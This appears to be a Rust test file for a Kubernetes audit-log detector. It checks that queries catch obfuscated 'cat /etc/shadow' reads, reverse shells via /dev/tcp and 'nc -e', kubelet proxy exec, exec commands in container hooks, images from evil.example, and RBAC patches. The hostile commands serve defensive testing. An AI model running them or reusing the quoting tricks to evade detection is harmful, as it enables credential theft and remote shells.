//! Commands that are written so that a pattern does not see them, or stand where nobody looks.

use serde_json::{Value, json};

use crate::fixture::Fixture;

fn log(verb: &str, uri: &str, resource: &str, subresource: &str, body: Value) -> Fixture {
    let mut event = json!({
        "kind": "Event", "apiVersion": "audit.k8s.io/v1", "level": "Request", "stage": "ResponseComplete", "auditID": "a",
        "requestURI": uri, "verb": verb, "user": {"username": "mallory"}, "sourceIPs": ["198.51.100.7"],
        "userAgent": "kubectl", "responseStatus": {"code": 200},
        "objectRef": {"resource": resource, "namespace": "prod", "name": "x", "apiVersion": "v1"},
        "requestReceivedTimestamp": "2026-03-03T10:00:00.000000Z", "stageTimestamp": "2026-03-03T10:00:00.000000Z",
    });
    if !subresource.is_empty() {
        event["objectRef"]["subresource"] = subresource.into();
    }
    if resource == "clusterrolebindings" {
        event["objectRef"]["apiGroup"] = "rbac.authorization.k8s.io".into();
    }
    if !body.is_null() {
        event["requestObject"] = body;
    }
    Fixture::of_texts(&[format!("{event}\n").as_bytes()])
}

/// Signs that a query sees in a command that is sent into a pod.
fn exec_signs(script: &str, query: &str, column: &str) -> Value {
    let script: String = script.bytes().map(|byte| format!("%{byte:02X}")).collect();
    let uri = format!("/api/v1/namespaces/prod/pods/x/exec?command=sh&command=-c&command={script}&stdout=true");
    log("get", &uri, "pods", "exec", Value::Null).ask(query, &[]).first().map_or(json!([]), |row| row[column].clone())
}

#[test]
fn quotes_in_a_word_hide_nothing() {
    for script in
        ["cat /etc/sh''adow", r"cat /etc/sh\adow", "cat '/etc/'shadow", "cat /etc/sh$@adow", r#"c"a"t /e"t"c/shadow"#]
    {
        assert_eq!(exec_signs(script, "exec-credentials", "credential_signs"), json!(["password hashes"]), "{script}");
    }
    for script in ["bash -c 'exec 5<>/dev/t''cp/198.51.100.9/443'", r"n\c -e sh 198.51.100.9 443"] {
        let signs = exec_signs(script, "exec-suspicious", "attack_signs");
        assert!(signs.to_string().contains("reverse shell"), "{script} {signs}");
    }
    assert_eq!(exec_signs("echo 'it is \"fine\"'", "exec-credentials", "credential_signs"), json!([]));
}

#[test]
fn a_session_that_a_kubelet_is_asked_for_is_one() {
    for (path, kind, pod, command) in [
        ("run/prod/web-0/web?cmd=id", "kubelet run", json!("web-0"), "id"),
        (
            "metrics/../Exec/prod/web-0/some-uid/web?command=sh&command=-c&command=id&output=1",
            "kubelet exec",
            json!("web-0"),
            "sh -c id",
        ),
        ("portForward/prod/web-0?port=80", "kubelet portforward", json!("web-0"), ""),
        ("cri/exec/dG9rZW4?cmd=id", "kubelet cri", Value::Null, "id"),
    ] {
        let uri = format!("/api/v1/nodes/n1/proxy/{path}");
        let rows = log("get", &uri, "nodes", "proxy", Value::Null).ask("exec-sessions", &[]);
        assert_eq!(rows.len(), 1, "{path}");
        assert_eq!(
            (&rows[0]["kind"], &rows[0]["name"], &rows[0]["command"]),
            (&json!(kind), &pod, &json!(command)),
            "{path}"
        );
        let of_pod = if pod.is_null() { Value::Null } else { json!("prod") };
        assert_eq!(rows[0]["namespace"], of_pod, "{path}");
    }
    for path in ["metrics", "pods", "containerLogs/prod/web-0/web", "run/../metrics"] {
        let uri = format!("/api/v1/nodes/n1/proxy/{path}");
        assert!(log("get", &uri, "nodes", "proxy", Value::Null).ask("exec-sessions", &[]).is_empty(), "{path}");
    }
}

#[test]
fn whom_somebody_acts_as_for_the_first_time_is_new() {
    let event = |number: u32, whom: Option<&str>| {
        let mut event = json!({
            "kind": "Event", "apiVersion": "audit.k8s.io/v1", "level": "Metadata", "stage": "ResponseComplete",
            "auditID": format!("{number}"), "requestURI": "/api/v1/pods", "verb": "list", "user": {"username": "alice"},
            "sourceIPs": ["198.51.100.7"], "userAgent": "kubectl", "responseStatus": {"code": 200},
            "objectRef": {"resource": "pods", "apiVersion": "v1"},
            "requestReceivedTimestamp": format!("2026-03-03T10:00:0{number}.000000Z"),
            "stageTimestamp": format!("2026-03-03T10:00:0{number}.000000Z"),
        });
        if let Some(whom) = whom {
            event["impersonatedUser"] = json!({"username": whom});
        }
        format!("{event}\n")
    };
    let text = [event(1, None), event(2, Some("bob")), event(7, Some("bob")), event(8, Some("system:admin"))].concat();
    let rows = Fixture::of_texts(&[text.as_bytes()]).ask("first-seen", &[]);
    let told: Vec<(&Value, &Value)> = rows.iter().map(|row| (&row["what"], &row["value"])).collect();
    assert_eq!(told, [(&json!("impersonated_user"), &json!("system:admin"))]);
}

#[test]
fn hooks_and_probes_of_a_container_are_commands() {
    let run = |place: Value| {
        let mut container = json!({"name": "c", "image": "nginx:1"});
        container.as_object_mut().unwrap().extend(place.as_object().unwrap().clone());
        let pod = json!({"kind": "Pod", "metadata": {"name": "x"}, "spec": {"containers": [container]}});
        log("create", "/api/v1/namespaces/prod/pods", "pods", "", pod)
    };
    let exec = json!({"exec": {"command": ["cat", "/etc/shadow"]}});
    for place in [
        json!({"lifecycle": {"postStart": exec}}),
        json!({"lifecycle": {"preStop": exec}}),
        json!({"livenessProbe": exec}),
        json!({"readinessProbe": exec}),
        json!({"startupProbe": exec}),
    ] {
        assert_eq!(run(place.clone()).ask("exec-credentials", &[])[0]["command"], "cat /etc/shadow", "{place}");
    }
    assert!(
        run(json!({"livenessProbe": {"httpGet": {"path": "/etc/shadow"}}})).ask("exec-credentials", &[]).is_empty()
    );
}

#[test]
fn an_image_that_is_mounted_is_an_image_that_is_used() {
    let spec = json!({
        "containers": [{"name": "c", "image": "nginx:1"}],
        "volumes": [{"name": "v", "image": {"reference": "evil.example/tools:1"}}],
    });
    let pod = json!({"kind": "Pod", "metadata": {"name": "x"}, "spec": spec});
    let images = log("create", "/api/v1/namespaces/prod/pods", "pods", "", pod).ask("images", &[]);
    let names: Vec<&Value> = images.iter().map(|row| &row["image"]).collect();
    assert_eq!(names, ["evil.example/tools:1", "nginx:1"]);
}

#[test]
fn a_subject_that_is_added_to_a_role_nobody_tells_is_listed() {
    let eve = json!({"kind": "User", "name": "eve"});
    for (body, why) in [
        (json!([{"op": "add", "path": "/subjects/-", "value": eve}]), json!(["role not told"])),
        (json!({"subjects": [eve]}), json!(["role not told"])),
        (json!({"roleRef": {"kind": "ClusterRole", "name": "view"}, "subjects": [eve]}), Value::Null),
    ] {
        let uri = "/apis/rbac.authorization.k8s.io/v1/clusterrolebindings/x";
        let rows = log("patch", uri, "clusterrolebindings", "", body).ask("privileged-bindings", &[]);
        assert_eq!(rows.first().map_or(Value::Null, |row| row["why"].clone()), why);
    }
}
